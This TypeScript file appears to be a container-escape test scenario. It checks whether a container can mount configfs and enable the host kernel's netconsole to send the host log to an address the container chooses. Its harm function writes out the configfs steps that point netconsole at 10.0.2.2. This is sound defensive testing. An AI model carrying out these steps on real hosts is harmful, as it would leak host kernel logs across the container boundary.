import { notBuiltIn } from '../../lab/scenarios/expected.ts';
import { expectationsOfMount, pseudoFsAttack } from '../../lab/scenarios/pseudo-fs.ts';

const module = '/lab/spare/netconsole.ko';
/** Where the container would have the log sent; nobody listens there. */
const address = '10.0.2.2';

export default pseudoFsAttack({
  title:
    "Can the container mount configfs and have the log of the host's kernel sent to an address of its own?",
  seed: ['C13'],
  type: 'configfs',
  expectations: [notBuiltIn('CONFIG_NETCONSOLE_DYNAMIC'), ...expectationsOfMount()],
  async target(host, at, bench) {
    const loaded = await host`init-module ${module}`;
    bench.read(loaded, { ok: 'loaded', EEXIST: 'loaded', ENOENT: 'no such module' });
    const { list: parts = [] } = await host.must`ls ${at}`;
    if (!parts.includes('netconsole')) return undefined;
    const interfaces = (await host.must`ls /sys/class/net`).list ?? [];
    const item = 'netconsole/of-the-container';
    return {
      async harm(inside, mount) {
        await inside`mkdir ${mount}/${item}`;
        await inside`write ${mount}/${item}/dev_name ${interfaces.find(name => name !== 'lo') ?? ''}`;
        await inside`write ${mount}/${item}/remote_ip ${address}`;
        await inside`write ${mount}/${item}/enabled 1`;
      },
      async isHarmed() {
        const enabled = await host`read ${at}/${item}/enabled`;
        const remote = await host`read ${at}/${item}/remote_ip`;
        return enabled.ok && enabled.text === '1\n' && remote.ok && remote.text === `${address}\n`;
      },
    };
  },
});
